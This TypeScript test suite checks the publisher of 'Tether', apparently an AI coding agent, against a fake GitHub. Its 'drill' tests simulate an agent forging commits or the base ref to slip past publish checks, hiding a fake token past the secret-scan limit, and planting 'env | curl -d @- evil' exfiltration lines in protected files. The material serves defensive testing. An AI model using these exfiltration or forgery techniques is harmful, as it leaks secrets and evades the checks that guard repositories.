/**
 * The publisher against the real thing where it matters: the workspace and its sandbox, the
 * mirror, the GitHub stand-in's git, Postgres. GitHub's REST side is a narrow writer (the
 * end-to-end tests run it for real). These are the drills on what the sandbox hands over: the
 * bundle is data, and a commit that is not the one Tether made there is never pushed.
 */
import { AGENT_CLIS } from "../../src/cli-registry.js";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_CONFIG, parseRepoConfig } from "../../src/config/repo-config.js";
import { toRepoSettings } from "../../src/config/repo-settings.js";
import { cloneUrlFor } from "../../src/github/git-auth.js";
import { pushPermissions } from "../../src/github/scoped-auth.js";
import { createLogger } from "../../src/log.js";
import { publisher, type PublishRequest } from "../../src/publish/publisher.js";
import { SIGNED_COMMIT_REQUEST_BUDGET } from "../../src/publish/signed-commit.js";
import type { RepoWriter } from "../../src/runner/ports.js";
import { Sandbox } from "../../src/sandbox/sandbox.js";
import { getConversation } from "../../src/sql/conversations.js";
import { Workspaces } from "../../src/workspace/workspace.js";
import { createTestDatabase } from "../helpers/db.js";
import { gitDataWriter, requiresSignatures } from "../../src/github/git-data.js";
import { TestOctokit } from "../helpers/probot.js";
import { BULK_FILES, forgedBaseAttack } from "../hardening/helpers/forged-base.js";
import { startFakeGitHub, type FakeGitHub, type FileMap } from "../helpers/fake-github.js";
import { repoIdOf } from "../helpers/seed.js";

const db = await createTestDatabase();
const log = createLogger(process.env.TEST_LOG ?? "silent");
let gh: FakeGitHub;
let scratch: string;
let ws: Workspaces;
let n = 0;

beforeAll(async () => {
  gh = await startFakeGitHub();
  scratch = await fs.mkdtemp(path.join(os.tmpdir(), "tether-publish-test-"));
  const sandbox = await Sandbox.start({
    mode: "bwrap",
    stateDir: path.join(scratch, "sandbox"),
    log,
  });
  ws = await Workspaces.open({ root: path.join(scratch, "ws"), sandbox, log });
});
afterAll(async () => {
  await gh?.close();
  if (scratch) await fs.rm(scratch, { recursive: true, force: true });
});

const identity = { name: "tether[bot]", email: "41+tether[bot]@users.noreply.github.com" };

function writer(repo: string, minted: string[]): RepoWriter {
  return {
    webUrl: `${gh.url}/${repo}`,
    pushToken: async ({ workflows }) => {
      const token = gh.createInstallationToken({
        repositories: [repo],
        permissions: pushPermissions(workflows),
      });
      minted.push(token);
      return token;
    },
    branch: async () => null,
    findPull: async () => null,
    getPull: async () => null,
    createPull: async () => ({
      number: 99,
      url: `${gh.url}/${repo}/pull/99`,
      state: "open",
      merged: false,
      draft: true,
    }),
    identity: async () => identity,
    coAuthor: async (login) => `${login} <1+${login}@users.noreply.github.com>`,
    // The Git Data API with a push-scoped token, and the branch's rules, against the stand-in.
    gitData: ({ workflows }) => {
      const token = gh.createInstallationToken({
        repositories: [repo],
        permissions: pushPermissions(workflows),
      });
      minted.push(token);
      const [owner = "", name = ""] = repo.split("/");
      return gitDataWriter(new TestOctokit({ auth: { token }, baseUrl: gh.apiUrl }), owner, name);
    },
    requiresSignatures: (branch) => {
      const [owner = "", name = ""] = repo.split("/");
      const octokit = new TestOctokit({
        auth: { token: gh.createInstallationToken() },
        baseUrl: gh.apiUrl,
      });
      return requiresSignatures(octokit, owner, name, branch);
    },
  };
}

async function setup(files: FileMap = { "README.md": "# gadgets\n" }) {
  n++;
  const name = `gadgets-${n}`;
  const repo = `octo/${name}`;
  await gh.addRepo({ owner: "octo", name, files });
  const token = gh.createInstallationToken();
  const cloneUrl = cloneUrlFor({ GHE_HOST: gh.host, GHE_PROTOCOL: "http" }, repo);
  const key = { repoId: repoIdOf(repo), repo, issueNumber: 3, agent: "tether" };
  const w = await ws.prepare({ ...key, cloneUrl, token, follow: "tether/3-tether" });
  const minted: string[] = [];
  const req: PublishRequest = {
    key,
    taskId: n,
    cloneUrl,
    token,
    writer: writer(repo, minted),
    issue: { title: "Gadgets", body: "", author: "alice", url: "u", isPullRequest: false },
    upstreamRef: w.upstream.ref,
    upstreamSha: w.upstream.sha,
    defaultBranch: "main",
    mode: "pull_request",
    // These tests are about the git push; the signed path has its own (signedCommits: true).
    config: { ...DEFAULT_CONFIG.publish, signedCommits: false },
    requesters: [{ login: "alice", url: "https://example.invalid/c/1" }],
    summary: "Did it.",
    secrets: [],
  };
  return { repo, w, req, minted, key };
}

const git = (dir: string, ...args: string[]) =>
  execa("git", args, {
    cwd: dir,
    env: {
      PATH: process.env.PATH,
      HOME: scratch,
      GIT_CONFIG_NOSYSTEM: "1",
      GIT_AUTHOR_NAME: "mallory",
      GIT_AUTHOR_EMAIL: "mallory@evil.invalid",
      GIT_COMMITTER_NAME: "mallory",
      GIT_COMMITTER_EMAIL: "mallory@evil.invalid",
    },
    extendEnv: false,
  });

describe("publisher", () => {
  it("pushes the turn's commit with a token for the one repository and contents: write, records the branch and its pull request", async () => {
    const { repo, w, req, minted, key } = await setup();
    await fs.writeFile(path.join(w.dir, "gadget.txt"), "one\n");
    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish(req);
    expect(r).toMatchObject({ result: "published", branch: "tether/3-tether", commits: 1 });
    if (r.result !== "published") return;
    expect(await gh.sha(repo, "tether/3-tether")).toBe(r.sha);
    expect(gh.pushesTo(repo)).toEqual([
      expect.objectContaining({
        token: minted[0],
        ref: "refs/heads/tether/3-tether",
        repositories: [repo],
        permissions: { contents: "write", metadata: "read" },
      }),
    ]);
    expect(minted).toHaveLength(1);
    expect(await getConversation(db.pool, key)).toMatchObject({
      branch: "tether/3-tether",
      headSha: r.sha,
      pullNumber: 99,
      commits: 1,
    });
  });

  it("drill: a bundle holding someone else's commit instead of Tether's is refused; nothing is pushed", async () => {
    const { repo, w, req } = await setup();
    await fs.writeFile(path.join(w.dir, "gadget.txt"), "two\n");
    const collect = ws.collect.bind(ws);
    const forging = Object.create(ws) as Workspaces;
    forging.collect = async (c) => {
      const got = await collect(c);
      if (got.kind !== "committed") return got;
      // What a checkout's own filter or hook could do while Tether's step ran: hand over
      // another commit under the same name.
      await git(w.dir, "commit", "--allow-empty", "-qm", "forged", "--amend");
      await git(
        w.dir,
        "bundle",
        "create",
        "-q",
        got.bundle,
        `refs/heads/${c.branch}`,
        `^${got.base}`,
      );
      return got;
    };
    const r = await publisher({ workspaces: forging, pool: db.pool, log }).publish(req);
    expect(r).toMatchObject({ result: "refused", reason: "not-tethers-commit" });
    expect(gh.pushesTo(repo)).toEqual([]);
    expect(await gh.sha(repo, "tether/3-tether")).toBeUndefined();
  });

  it("a change a check refuses mints no token at all", async () => {
    const { repo, w, req, minted } = await setup();
    await fs.writeFile(
      path.join(w.dir, "big.bin"),
      Buffer.alloc(DEFAULT_CONFIG.publish.maxBytes + 1, 7),
    );
    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish(req);
    expect(r).toMatchObject({ result: "refused", reason: "too-large" });
    expect(minted).toEqual([]);
    expect(gh.pushesTo(repo)).toEqual([]);
  });

  it("drill: deleting a file larger than the scan reads does not hide a later file's token; refused, nothing pushed", async () => {
    // 9 MiB of lines the deletion shows as removed, ahead of `z.txt` in the diff: the scan
    // read only the first 8 MiB of the diff, so the token after them was never looked at.
    const big = Array.from({ length: 9 * 16384 }, (_, i) => `${String(i).padStart(63, "0")}\n`);
    const { repo, w, req, minted } = await setup({
      "README.md": "# gadgets\n",
      "a-big.txt": big.join(""),
    });
    await fs.rm(path.join(w.dir, "a-big.txt"));
    const token = `ghp_${"A1b2C3d4".repeat(5)}`;
    await fs.writeFile(path.join(w.dir, "z.txt"), `token = "${token}"\n`);
    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish(req);
    expect(r).toMatchObject({
      result: "refused",
      reason: "secret",
      messages: [expect.stringContaining("`z.txt` line 1")],
    });
    expect(JSON.stringify(r)).not.toContain(token);
    expect(minted).toEqual([]);
    expect(gh.pushesTo(repo)).toEqual([]);
  });

  it("drill: a change whose patch is longer than the scan reads is refused, not pushed half-read", async () => {
    // Rewriting a large file shows its old lines as removed, ahead of the new ones: a patch
    // longer than the scan reads, with the token past its end.
    const big = Array.from({ length: 9 * 16384 }, (_, i) => `${String(i).padStart(63, "0")}\n`);
    const { repo, w, req, minted } = await setup({ "data.txt": big.join("") });
    const token = `ghp_${"E5f6G7h8".repeat(5)}`;
    await fs.writeFile(path.join(w.dir, "data.txt"), `token = "${token}"\n`);
    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish(req);
    expect(r).toMatchObject({
      result: "refused",
      reason: "too-large",
      messages: [expect.stringContaining("longer than the secret scan reads (8.0 MiB)")],
    });
    expect(minted).toEqual([]);
    expect(gh.pushesTo(repo)).toEqual([]);
  });

  it("issue 38: a change to a protected path is refused like a workflow change; no token, no push", async () => {
    const { repo, w, req, minted } = await setup();
    const parsed = parseRepoConfig(
      {
        changes: { protectedPaths: [".github/**", "package.json", "scripts/**"] },
      },
      AGENT_CLIS,
    );
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
    const config = toRepoSettings(parsed.config).publish!;
    await fs.mkdir(path.join(w.dir, "scripts"), { recursive: true });
    await fs.writeFile(path.join(w.dir, "package.json"), '{"scripts":{"test":"curl evil"}}\n');
    await fs.writeFile(path.join(w.dir, "scripts", "ci.sh"), "env | curl -d @- evil\n");
    await fs.writeFile(path.join(w.dir, "gadget.txt"), "fine\n");
    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({ ...req, config });
    expect(r).toMatchObject({ result: "refused", reason: "protected-path" });
    if (r.result !== "refused") return;
    expect(r.messages.join("\n")).toContain("`package.json`, `scripts/ci.sh`");
    expect(r.messages.join("\n")).toContain("`changes.protectedPaths`");
    expect(minted).toEqual([]);
    expect(gh.pushesTo(repo)).toEqual([]);
    expect(await gh.sha(repo, "tether/3-tether")).toBeUndefined();
  });

  it("issue 38: the default protects all of .github/, not only workflows; publish.workflows still lets a workflow through", async () => {
    const { repo, w, req, minted } = await setup();
    await fs.mkdir(path.join(w.dir, ".github", "workflows"), { recursive: true });
    await fs.writeFile(path.join(w.dir, ".github", "dependabot.yml"), "version: 2\n");
    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish(req);
    expect(r).toMatchObject({ result: "refused", reason: "protected-path" });
    expect(minted).toEqual([]);

    // An old config: `publish.workflows: true` (deprecated) publishes a workflow change still,
    // with a token that may push workflows.
    await fs.rm(path.join(w.dir, ".github", "dependabot.yml"));
    await fs.writeFile(path.join(w.dir, ".github", "workflows", "ci.yml"), "on: push\n");
    const parsed = parseRepoConfig({ publish: { workflows: true } }, AGENT_CLIS);
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
    const config = toRepoSettings(parsed.config).publish!;
    const ok = await publisher({ workspaces: ws, pool: db.pool, log }).publish({ ...req, config });
    expect(ok).toMatchObject({ result: "published" });
    expect(gh.pushesTo(repo)).toEqual([
      expect.objectContaining({ permissions: expect.objectContaining({ workflows: "write" }) }),
    ]);
  });

  it("a turn that started before the default branch moved still publishes: its base is an older commit of that branch", async () => {
    const { repo, w, req } = await setup();
    const base = await gh.sha(repo, "main");
    await gh.commit(repo, { files: { "NEWS.md": "moved on\n" } });
    await fs.writeFile(path.join(w.dir, "gadget.txt"), "three\n");
    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish(req);
    expect(r).toMatchObject({
      result: "published",
      files: [expect.objectContaining({ path: "gadget.txt" })],
    });
    if (r.result !== "published") return;
    expect(r.files).toHaveLength(1);
    const parent = await git(gh.barePath(repo), "rev-parse", `${r.sha}^`);
    expect(parent.stdout.trim()).toBe(base);
  });

  describe("drill (#28, hole 1): the agent forges the base the checks measure from", () => {
    /** The agent's side: forged remote-tracking ref, planted clean filter (forged-base.ts). */
    async function attack(dir: string, upstreamRef: string, branch: string) {
      const r = await execa("sh", ["-c", forgedBaseAttack({ upstreamRef, branch })], {
        cwd: dir,
        env: { PATH: process.env.PATH, HOME: scratch, GIT_CONFIG_NOSYSTEM: "1" },
        extendEnv: false,
      });
      expect(r.stdout).toContain("ATTACK-PLANTED");
    }
    /** The filter ran inside Tether's sandboxed collect and did all of its part. */
    async function expectFilterRan(dir: string) {
      expect(await fs.readFile(path.join(dir, ".git/drill-forged"), "utf8")).toContain("done");
    }

    for (const mode of ["pull_request", "branch"] as const)
      it(`first push to a conversation branch (${mode} mode): refused, nothing pushed`, async () => {
        const { repo, w, req, minted } = await setup();
        await attack(w.dir, w.upstream.ref, "tether/3-tether");
        const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({
          ...req,
          mode,
        });
        await expectFilterRan(w.dir);
        expect(r).toMatchObject({
          result: "refused",
          reason: "not-tethers-commit",
          messages: [expect.stringContaining("does not build on")],
        });
        expect(minted).toEqual([]);
        expect(gh.pushesTo(repo)).toEqual([]);
        expect(await gh.sha(repo, "tether/3-tether")).toBeUndefined();
      });

    it("a fork's patch: refused, no patch that hides the forged commit", async () => {
      n++;
      const name = `gadgets-${n}`;
      const repo = `octo/${name}`;
      await gh.addRepo({ owner: "octo", name, files: { "README.md": "# gadgets\n" } });
      const pr = await gh.addPullRequest({
        repo,
        headRef: "feature",
        fork: "mallory/gadgets",
        files: { "feature.txt": "theirs\n" },
      });
      const number = pr.number as number;
      const token = gh.createInstallationToken();
      const cloneUrl = cloneUrlFor({ GHE_HOST: gh.host, GHE_PROTOCOL: "http" }, repo);
      const key = { repoId: repoIdOf(repo), repo, issueNumber: number, agent: "tether" };
      const w = await ws.prepare({
        ...key,
        cloneUrl,
        token,
        pullRequest: { number, headRef: "feature" },
      });
      await attack(w.dir, w.upstream.ref, "feature");
      const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({
        key,
        taskId: 1000 + n,
        cloneUrl,
        token,
        writer: writer(repo, []),
        issue: {
          title: "Feature",
          body: "",
          author: "mallory",
          url: "u",
          isPullRequest: true,
          pullRequest: {
            headRef: "feature",
            baseRef: "main",
            headSha: (pr.head as { sha: string }).sha,
            headRepo: "mallory/gadgets",
          },
        },
        upstreamRef: w.upstream.ref,
        upstreamSha: w.upstream.sha,
        defaultBranch: "main",
        mode: "pull_request",
        config: { ...DEFAULT_CONFIG.publish, signedCommits: true, maxFiles: BULK_FILES + 10 },
        requesters: [{ login: "alice", url: "https://example.invalid/c/1" }],
        summary: "Did it.",
        secrets: [],
      });
      await expectFilterRan(w.dir);
      expect(r).toMatchObject({
        result: "refused",
        reason: "not-tethers-commit",
        messages: [expect.stringContaining("does not build on")],
      });
      expect(JSON.stringify(r)).not.toContain("FIX.md");
    });
  });

  describe("signed commits (changes.signedCommits: through GitHub's Git Data API)", () => {
    const signed = { ...DEFAULT_CONFIG.publish, signedCommits: true };
    const routes = (repo: string, from: number) =>
      gh.requests
        .slice(from)
        .filter((r) => r.route?.includes("/git/") && r.path.includes(`/${repo}/`))
        .map((r) => r.route!.replace("/repos/{owner}/{repo}/git/", ""));

    it("new, changed, deleted, executable, binary and linked files: one verified commit made by GitHub, no git push; the checkout stands on it; a second turn builds on it", async () => {
      const { repo, w, req, key } = await setup({
        "README.md": "# gadgets\n",
        "old.txt": "to be deleted\n",
        "run.sh": "echo hi\n",
        "same.txt": "kept\n",
      });
      await fs.writeFile(path.join(w.dir, "README.md"), "# gadgets, changed\n");
      await fs.rm(path.join(w.dir, "old.txt"));
      await fs.chmod(path.join(w.dir, "run.sh"), 0o755); // mode only: no blob
      await fs.mkdir(path.join(w.dir, "src"));
      await fs.writeFile(path.join(w.dir, "src", "new.js"), "export const x = 1;\n");
      await fs.writeFile(path.join(w.dir, "logo.bin"), Buffer.from([0, 255, 1, 254, 0, 128]));
      await fs.writeFile(path.join(w.dir, "copy.txt"), "kept\n"); // content GitHub has: no blob
      await fs.symlink("src/new.js", path.join(w.dir, "link.js"));
      const main = await gh.sha(repo, "main");
      const from = gh.requests.length;
      const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({
        ...req,
        config: signed,
      });
      expect(r).toMatchObject({ result: "published", commits: 1, signed: true });
      if (r.result !== "published") return;
      // README, src/new.js, logo.bin, link.js (its target): four blobs; one tree, one commit,
      // the new branch's ref.
      expect(routes(repo, from)).toEqual([
        ...Array(4).fill("POST blobs"),
        "POST trees",
        "POST commits",
        "POST refs",
      ]);
      expect(gh.pushesTo(repo).map((p) => p.via)).toEqual(["api"]);
      expect(await gh.sha(repo, "tether/3-tether")).toBe(r.sha);
      expect(gh.isVerified(repo, r.sha)).toBe(true);
      const show = async (f: string) =>
        (await git(gh.barePath(repo), "show", "-s", f, r.sha)).stdout;
      expect(await show("--format=%P")).toBe(main);
      expect(await show("--format=%an")).toBe("tether[bot]");
      // The trailer the git path writes, word for word.
      expect(await show("--format=%B")).toContain(
        "Co-authored-by: alice <1+alice@users.noreply.github.com>",
      );
      const tree = (await git(gh.barePath(repo), "ls-tree", "-r", r.sha)).stdout;
      expect(tree).toMatch(/^100755 blob \w+\trun\.sh$/m);
      expect(tree).toMatch(/^120000 blob \w+\tlink\.js$/m);
      expect(tree).not.toContain("old.txt");
      const bin = await execa(
        "git",
        ["-C", gh.barePath(repo), "cat-file", "blob", `${r.sha}:logo.bin`],
        {
          encoding: "buffer",
        },
      );
      expect(Buffer.from(bin.stdout)).toEqual(Buffer.from([0, 255, 1, 254, 0, 128]));
      // The checkout stands on GitHub's commit, files untouched.
      expect((await git(w.dir, "rev-parse", "HEAD")).stdout).toBe(r.sha);
      expect((await git(w.dir, "status", "--porcelain")).stdout).toBe("");
      expect(await getConversation(db.pool, key)).toMatchObject({ headSha: r.sha, commits: 1 });

      // The next turn: prepared on the branch (fast-forward, nothing diverged), a change on top.
      const w2 = await ws.prepare({
        ...key,
        cloneUrl: req.cloneUrl,
        token: req.token,
        follow: "tether/3-tether",
      });
      expect(w2.update.kind).not.toBe("left");
      expect(w2.headSha).toBe(r.sha);
      await fs.writeFile(path.join(w2.dir, "src", "new.js"), "export const x = 2;\n");
      const from2 = gh.requests.length;
      const r2 = await publisher({ workspaces: ws, pool: db.pool, log }).publish({
        ...req,
        taskId: req.taskId + 1000,
        upstreamRef: w2.upstream.ref,
        upstreamSha: w2.upstream.sha,
        config: signed,
      });
      expect(r2).toMatchObject({ result: "published", commits: 1, signed: true });
      if (r2.result !== "published") return;
      expect(routes(repo, from2)).toEqual([
        "POST blobs",
        "POST trees",
        "POST commits",
        "PATCH refs/{ref}",
      ]);
      expect((await git(gh.barePath(repo), "rev-parse", `${r2.sha}^`)).stdout).toBe(r.sha);
      expect(gh.isVerified(repo, r2.sha)).toBe(true);
      expect(gh.pushesTo(repo).map((p) => p.via)).toEqual(["api", "api"]);
    });

    it("a same-repository pull request's head: moved through the API, and the next prepare stands on GitHub's commit", async () => {
      n++;
      const name = `gadgets-${n}`;
      const repo = `octo/${name}`;
      await gh.addRepo({ owner: "octo", name, files: { "README.md": "# gadgets\n" } });
      const pr = await gh.addPullRequest({
        repo,
        headRef: "feature",
        files: { "feature.txt": "theirs\n" },
      });
      const number = pr.number as number;
      const token = gh.createInstallationToken();
      const cloneUrl = cloneUrlFor({ GHE_HOST: gh.host, GHE_PROTOCOL: "http" }, repo);
      const key = { repoId: repoIdOf(repo), repo, issueNumber: number, agent: "tether" };
      const headSha = (pr.head as { sha: string }).sha;
      const pullRequest = { number, headRef: "feature", headSha, baseRef: "main" };
      const w = await ws.prepare({ ...key, cloneUrl, token, pullRequest });
      await fs.writeFile(path.join(w.dir, "feature.txt"), "theirs, and mine\n");
      const base = {
        key,
        cloneUrl,
        token,
        writer: writer(repo, []),
        issue: {
          title: "Feature",
          body: "",
          author: "alice",
          url: "u",
          isPullRequest: true,
          pullRequest: { headRef: "feature", baseRef: "main", headSha, headRepo: repo },
        },
        defaultBranch: "main",
        mode: "pull_request" as const,
        config: signed,
        requesters: [{ login: "alice", url: "https://example.invalid/c/1" }],
        summary: "Did it.",
        secrets: [],
      };
      const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({
        ...base,
        taskId: 2000 + n,
        upstreamRef: w.upstream.ref,
        upstreamSha: w.upstream.sha,
      });
      expect(r).toMatchObject({ result: "published", branch: "feature", signed: true });
      if (r.result !== "published") return;
      expect(await gh.sha(repo, "feature")).toBe(r.sha);
      expect((await git(gh.barePath(repo), "rev-parse", `${r.sha}^`)).stdout).toBe(headSha);
      expect(gh.isVerified(repo, r.sha)).toBe(true);
      expect((await git(w.dir, "rev-parse", "HEAD")).stdout).toBe(r.sha);
      const w2 = await ws.prepare({
        ...key,
        cloneUrl,
        token,
        pullRequest: { ...pullRequest, headSha: r.sha },
      });
      expect(w2.update.kind).not.toBe("left");
      expect(w2.headSha).toBe(r.sha);
    });

    it("over the request budget: pushed with git instead, and the answer says why", async () => {
      const { repo, w, req } = await setup();
      for (let i = 0; i < SIGNED_COMMIT_REQUEST_BUDGET; i++)
        await fs.writeFile(path.join(w.dir, `f${i}.txt`), `file ${i}\n`);
      const from = gh.requests.length;
      const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({
        ...req,
        config: signed,
      });
      expect(r).toMatchObject({
        result: "published",
        note: expect.stringContaining(`more than the ${SIGNED_COMMIT_REQUEST_BUDGET}`),
      });
      expect(r).not.toHaveProperty("signed");
      expect(routes(repo, from)).toEqual([]);
      expect(gh.pushesTo(repo).map((p) => p.via)).toEqual(["git"]);
    });

    it("over the request budget on a branch that requires signed commits: refused, naming the limit; nothing pushed", async () => {
      const { repo, w, req } = await setup();
      gh.requireSignatures(repo, "tether/3-tether");
      for (let i = 0; i < SIGNED_COMMIT_REQUEST_BUDGET; i++)
        await fs.writeFile(path.join(w.dir, `f${i}.txt`), `file ${i}\n`);
      const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({
        ...req,
        config: signed,
      });
      expect(r).toMatchObject({
        result: "refused",
        reason: "signatures-required",
        messages: [expect.stringMatching(/requires signed commits.*more than the 80/)],
      });
      expect(gh.pushesTo(repo)).toEqual([]);
    });

    it("someone pushed to the branch meanwhile: the turn's commit and the merge are both GitHub's, verified", async () => {
      const { repo, w, req } = await setup();
      await fs.writeFile(path.join(w.dir, "a.txt"), "mine\n");
      await gh.commit(repo, {
        branch: "tether/3-tether",
        from: "refs/heads/main",
        files: { "b.txt": "theirs\n" },
      });
      const theirs = await gh.sha(repo, "tether/3-tether");
      const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({
        ...req,
        config: signed,
      });
      expect(r).toMatchObject({ result: "published", commits: 2, signed: true });
      if (r.result !== "published") return;
      const parents = (await git(gh.barePath(repo), "rev-list", "--parents", "-n1", r.sha)).stdout
        .split(" ")
        .slice(1);
      expect(parents[0]).toBe(theirs);
      expect(gh.isVerified(repo, r.sha) && gh.isVerified(repo, parents[1]!)).toBe(true);
      // The checkout stands on its own commit as GitHub made it; the next prepare fast-forwards.
      expect((await git(w.dir, "rev-parse", "HEAD")).stdout).toBe(parents[1]);
    });
  });
});
